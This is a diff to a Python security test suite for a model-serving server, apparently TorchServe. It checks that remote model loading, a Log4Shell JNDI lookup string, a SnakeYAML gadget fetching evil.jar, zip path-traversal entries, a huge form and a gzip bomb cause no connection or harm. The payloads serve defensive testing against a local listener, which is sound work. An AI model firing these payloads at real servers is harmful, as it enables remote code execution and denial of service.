@@ -1,13 +1,15 @@
 """What docs/operations/security.md claims of the server, tried on a live one.
 
-A listener counts who fetches from it: what is refused must also not have been looked at.
+A listener counts who connects to it: what is refused must also not have been looked at.
 """
 
 from __future__ import annotations
 
+import gzip
 import importlib.resources
 import io
 import json
+import socket
 import threading
 import zipfile
 from collections.abc import Callable, Iterator
@@ -26,27 +28,43 @@ pytestmark = pytest.mark.contract
 ARCHIVE = ROOT / "model_store" / "dcgan.mar"
 
 
+class Listener(ThreadingHTTPServer):
+    """Serves an archive to everybody, and counts the connections, whatever they speak."""
+
+    daemon_threads = True
+    connections = 0
+
+    def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
+        self.connections += 1
+        return super().get_request()
+
+
+class Archive(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(ARCHIVE.read_bytes())
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
 @contextmanager
-def listener() -> Iterator[tuple[str, list[str]]]:
-    """Its address, and the paths that have been asked of it."""
-    asked: list[str] = []
-
-    class Listener(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            asked.append(self.path)
-            self.send_response(200)
-            self.end_headers()
-            self.wfile.write(ARCHIVE.read_bytes())
-
-        do_HEAD = do_POST = do_GET  # noqa: N815 - http.server's names
-
-        def log_message(self, *_: object) -> None:
-            pass
-
-    with ThreadingHTTPServer((HOST, 0), Listener) as opened:
-        threading.Thread(target=opened.serve_forever, daemon=True).start()
-        yield f"http://{HOST}:{opened.server_port}", asked
+def listener() -> Iterator[tuple[str, Listener]]:
+    """host:port of a listener, and the listener."""
+    with Listener((HOST, 0), Archive) as opened:
+        thread = threading.Thread(target=opened.serve_forever)
+        thread.start()
+        yield f"{HOST}:{opened.server_port}", opened
         opened.shutdown()
+        thread.join()
+
+
+def test_the_listener_counts_connections() -> None:
+    with listener() as (host, opened):
+        assert requests.get(f"http://{host}/x", timeout=30).content == ARCHIVE.read_bytes()
+        socket.create_connection((HOST, opened.server_port)).close()
+    assert opened.connections == 2
 
 
 def models(server: Server) -> list[str]:
@@ -56,19 +74,18 @@ def models(server: Server) -> list[str]:
 
 @pytest.mark.parametrize(
     "location",
-    ["{listener}/evil.mar", "dcgan.mar", "file://{archive}", "file://x@{host}/evil.mar"],
+    ["http://{host}/evil.mar", "dcgan.mar", "file://{archive}", "file://x@{host}/evil.mar"],
 )
 def test_no_model_is_registered_over_http(server: Server, location: str) -> None:
     """CVE-2023-43654 and CVE-2024-35198 need this door; enable_model_api=false shuts it."""
-    with listener() as (address, asked):
-        host = address.removeprefix("http://")
-        url = location.format(listener=address, archive=ARCHIVE, host=host)
+    with listener() as (host, opened):
+        url = location.format(host=host, archive=ARCHIVE)
         management = f"http://{HOST}:{server.ports.management}"
         refused = requests.post(
             f"{management}/models", params={"url": url, "model_name": "evil"}, timeout=60
         )
     assert refused.status_code == 405
-    assert asked == []
+    assert opened.connections == 0
     assert models(server) == ["dcgan"]
 
 
@@ -80,18 +97,18 @@ def test_no_model_is_removed_over_http(server: Server) -> None:
 
 
 @pytest.mark.parametrize(
-    "location", ["{listener}/evil.war", "file://{archive}", "../../evil.war", "evil.war"]
+    "location", ["http://{host}/evil.war", "file://{archive}", "../../evil.war", "evil.war"]
 )
 def test_no_workflow_is_registered_over_http(server: Server, location: str) -> None:
     """enable_model_api does not cover workflows in 0.12; allowed_urls=none does."""
-    with listener() as (address, asked):
-        url = location.format(listener=address, archive=ARCHIVE)
+    with listener() as (host, opened):
+        url = location.format(host=host, archive=ARCHIVE)
         refused = requests.post(
             f"http://{HOST}:{server.ports.management}/workflows", params={"url": url}, timeout=60
         )
     assert refused.status_code == 404
     assert refused.json()["type"] == "WorkflowNotFoundException"
-    assert asked == []
+    assert opened.connections == 0
 
 
 def test_the_inference_port_manages_nothing(server: Server) -> None:
@@ -120,16 +137,54 @@ def test_no_model_is_registered_over_grpc(
     import management_pb2_grpc
 
     with (
-        listener() as (address, asked),
+        listener() as (host, opened),
         grpc.insecure_channel(f"{HOST}:{server.ports.grpc_management}") as channel,
     ):
         stub = management_pb2_grpc.ManagementAPIsServiceStub(channel)
-        request = management_pb2.RegisterModelRequest(url=f"{address}/evil.mar", model_name="evil")
+        request = management_pb2.RegisterModelRequest(
+            url=f"http://{host}/evil.mar", model_name="evil"
+        )
         with pytest.raises(grpc.RpcError) as refused:
             stub.RegisterModel(request, timeout=60)
         assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
-    assert asked == []
+    assert opened.connections == 0
     assert models(server) == ["dcgan"]
+
+
+def test_nothing_a_client_sends_is_looked_up(server: Server) -> None:
+    """CVE-2021-44228: a logger that follows addresses in what it logs."""
+    with listener() as (host, opened):
+        lookup = f"${{jndi:ldap://{host}/x}}"
+        requests.post(
+            f"{server.predict_url}/{lookup}",
+            json={"seed": lookup, lookup: 1},
+            headers={"User-Agent": lookup, "X-Request-Id": lookup, "describe": lookup},
+            timeout=60,
+        )
+        assert (
+            requests.post(server.predict_url, json={"seed": lookup}, timeout=60).status_code == 400
+        )
+    assert opened.connections == 0
+
+
+def test_a_form_of_very_many_fields_harms_nobody(server: Server) -> None:
+    """CVE-2024-29025: Netty keeps every field, so the limit of the body is what bounds them."""
+    form = "&".join(f"{i:x}=" for i in range(50_000))
+    headers = {"Content-Type": "application/x-www-form-urlencoded"}
+    workers = processes(server)
+    refused = requests.post(server.predict_url, data=form, headers=headers, timeout=60)
+    assert refused.status_code == 400
+    assert requests.post(server.predict_url, json={"seed": 1}, timeout=60).status_code == 200
+    assert processes(server) == workers
+
+
+def test_a_compressed_body_is_not_unpacked(server: Server) -> None:
+    """Netty's decompressors (CVE-2021-37136 and -37137, CVE-2025-58057) are not in use."""
+    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
+    bomb = gzip.compress(b'{"seed": 1' + b" " * 50_000_000 + b"}")
+    refused = requests.post(server.predict_url, data=bomb, headers=headers, timeout=60)
+    assert refused.status_code == 400
+    assert requests.post(server.predict_url, json={"seed": 1}, timeout=60).status_code == 200
 
 
 def processes(server: Server) -> list[psutil.Process]:
@@ -205,11 +260,11 @@ def a_way_out(folder: Path, _: str) -> None:
     changed(folder / "dcgan.mar", {"../../../../escaped": b"x", "../escaped": b"x"}, {})
 
 
-def a_java_object(folder: Path, address: str) -> None:
+def a_java_object(folder: Path, host: str) -> None:
     """CVE-2022-1471: YAML that asks SnakeYAML to make Java objects."""
     gadget = (
         "minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager "
-        f'[!!java.net.URLClassLoader [[!!java.net.URL ["{address}/evil.jar"]]]]\n'
+        f'[!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/evil.jar"]]]]\n'
     )
     changed(folder / "dcgan.mar", {"model-config.yaml": gadget.encode()}, {})
 
@@ -221,8 +276,8 @@ def a_java_object(folder: Path, address: str) -> None:
 def test_a_hostile_archive_is_not_served(
     tmp_path: Path, make: Callable[[Path, str], None], reason: str
 ) -> None:
-    with listener() as (address, asked):
-        make(tmp_path / "store", address)
+    with listener() as (host, opened):
+        make(tmp_path / "store", host)
         server = Server(tmp_path / "server", tmp_path / "store", Ports.free())
         process = server.start()
         try:
@@ -230,5 +285,5 @@ def test_a_hostile_archive_is_not_served(
                 server.wait_until_ready(process, timeout_s=90)
         finally:
             stop(process.pid)
-    assert asked == []
+    assert opened.connections == 0
     assert not list(tmp_path.rglob("escaped"))
